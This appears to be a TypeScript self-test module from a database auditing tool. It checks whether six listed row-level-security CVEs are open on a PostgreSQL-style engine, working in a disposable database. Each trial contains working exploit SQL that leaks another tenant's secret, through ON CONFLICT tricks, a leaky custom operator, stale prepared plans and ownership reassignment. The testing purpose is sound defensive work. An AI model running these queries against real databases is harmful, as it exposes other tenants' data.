/** Known vulnerabilities, tried on the engine at hand: what a version number says is believed where it shows. */
import type { Engine, Session } from '../../engine';
import type { EngineVerdict } from '../types';

type Verdicts = EngineVerdict['selfTest'];

interface Trial {
  readonly cve: string;
  readonly what: string;
  /** First major that can have it. */
  readonly since: number;
  /** Run as a superuser before. */
  readonly setup: string;
  /** True where the hole is open. */
  readonly isOpen: (app: Session, admin: Session) => Promise<boolean>;
}

const DATABASE = 'tenet_self_test';
const APP = 'tenet_lab_app';
const OTHER = 'tenet_lab_other';
const STRONG = 'tenet_lab_strong';
const ROLES = [APP, OTHER, STRONG];

/** A table of two tenants; the role at work is of the first. */
const TABLE = `
create table t (tenant int not null, k text unique, secret text);
insert into t values (1, 'a', 'A-SECRET'), (2, 'b', 'B-SECRET');
grant select, insert, update, delete on t to ${APP};`;
const GUARDED = `${TABLE}
alter table t enable row level security;
create policy own on t using (tenant = 1) with check (tenant = 1);`;

const TRIALS: readonly Trial[] = [
  {
    cve: 'CVE-2026-120154',
    what: 'ON CONFLICT DO UPDATE with a condition on the hidden row',
    since: 15,
    setup: GUARDED,
    isOpen: (app) =>
      tellsOfB(
        app,
        `insert into t values (1, 'b', 'x') on conflict (k) do update set secret = 'y' where t.secret::int = 0`,
      ),
  },
  {
    cve: 'CVE-2026-16237',
    what: 'ON CONFLICT through a view that filters',
    since: 15,
    setup: `${TABLE} create view v as select * from t where tenant = 1; revoke all on t from ${APP}; grant select, insert, update on v to ${APP};`,
    async isOpen(app, admin) {
      await attempted(
        app,
        `insert into v values (1, 'b', 'stolen') on conflict (k) do update set tenant = 1, secret = 'stolen'`,
      );
      return (await admin.query(`select from t where k = 'b' and tenant = 2 and secret = 'B-SECRET'`)).length === 0;
    },
  },
  {
    cve: 'CVE-2026-116311',
    what: 'DROP OWNED takes a role out of a restrictive policy',
    since: 15,
    setup: `${TABLE} alter table t enable row level security; create policy open on t using (true);
      create policy guard on t as restrictive to ${APP}, ${OTHER} using (tenant = 1);`,
    async isOpen(app) {
      await attempted(app, `drop owned by current_user`);
      return tellsOfB(app, `select secret from t`);
    },
  },
  {
    cve: 'CVE-2026-116327',
    what: 'a user-defined operator in CASE runs before row security',
    since: 15,
    setup: `${GUARDED} create schema mine authorization ${APP};`,
    async isOpen(app) {
      await app.execute(`
        create type mine.probe as (x int);
        create function mine.tell(text, mine.probe) returns boolean language plpgsql cost 0.0001 as
          $$ begin raise notice '%', $1; return true; end $$;
        create operator mine.= (leftarg = text, rightarg = mine.probe, function = mine.tell);
        set search_path = mine, public, pg_catalog`);
      return tellsOfB(app, `select k from t where case secret when row(1)::mine.probe then true else true end`);
    },
  },
  {
    cve: 'CVE-2026-14666',
    what: 'a prepared plan after the role lost BYPASSRLS',
    since: 15,
    setup: `${GUARDED} alter role ${APP} bypassrls;`,
    async isOpen(app, admin) {
      await app.execute(`prepare p as select secret from t; execute p`);
      await admin.execute(`alter role ${APP} nobypassrls`);
      return tellsOfB(app, `execute p`);
    },
  },
  {
    cve: 'CVE-2026-120146',
    what: 'REASSIGN OWNED to a role without SET ROLE privilege',
    since: 16,
    setup: `${GUARDED} create schema mine; grant usage, create on schema mine to ${APP}, ${STRONG}; alter role ${STRONG} bypassrls;
      grant select on t to ${STRONG}; grant ${STRONG} to ${APP} with inherit true, set false;`,
    async isOpen(app) {
      await app.execute(`create view mine.v as select secret from t`);
      await attempted(app, `reassign owned by current_user to ${STRONG}`);
      return tellsOfB(app, `select secret from mine.v`);
    },
  },
];

/** Tries them all in a database of its own, and leaves nothing of it. */
export async function selfTest(engine: Engine): Promise<Verdicts> {
  const found: Verdicts[number][] = [];
  for (const trial of TRIALS) {
    const { cve, what } = trial;
    const outcome = engine.major < trial.since ? 'not-tried' : (await tried(engine, trial)) ? 'open' : 'closed';
    found.push({ cve, what, outcome });
  }
  return found;
}

async function tried(engine: Engine, { setup, isOpen }: Trial): Promise<boolean> {
  const operator = await engine.connect();
  try {
    await operator.query(`create database ${DATABASE}`);
    for (const role of ROLES) await operator.query(`create role ${role} login`);
    const admin = await engine.connect({ database: DATABASE });
    await admin.execute(setup);
    const app = await engine.connect({ database: DATABASE, user: APP });
    try {
      return await isOpen(app, admin);
    } finally {
      await app.end();
      await admin.end();
    }
  } finally {
    await operator.query(`drop database if exists ${DATABASE} with (force)`);
    for (const role of ROLES) await operator.query(`drop role if exists ${role}`);
    await operator.end();
  }
}

/** Whether B's secret comes back in a row, a notice or an error. */
async function tellsOfB(session: Session, sql: string): Promise<boolean> {
  const before = session.notices.length;
  const said = await session.query(sql).then(
    (rows) => JSON.stringify(rows),
    (error: unknown) => (error as Error).message,
  );
  const notices = session.notices.slice(before).map(({ message }) => message);
  return [said, ...notices].join('\n').includes('B-SECRET');
}

/** What a server that is mended refuses. */
async function attempted(session: Session, sql: string): Promise<void> {
  await session.query(sql).catch(() => undefined);
}
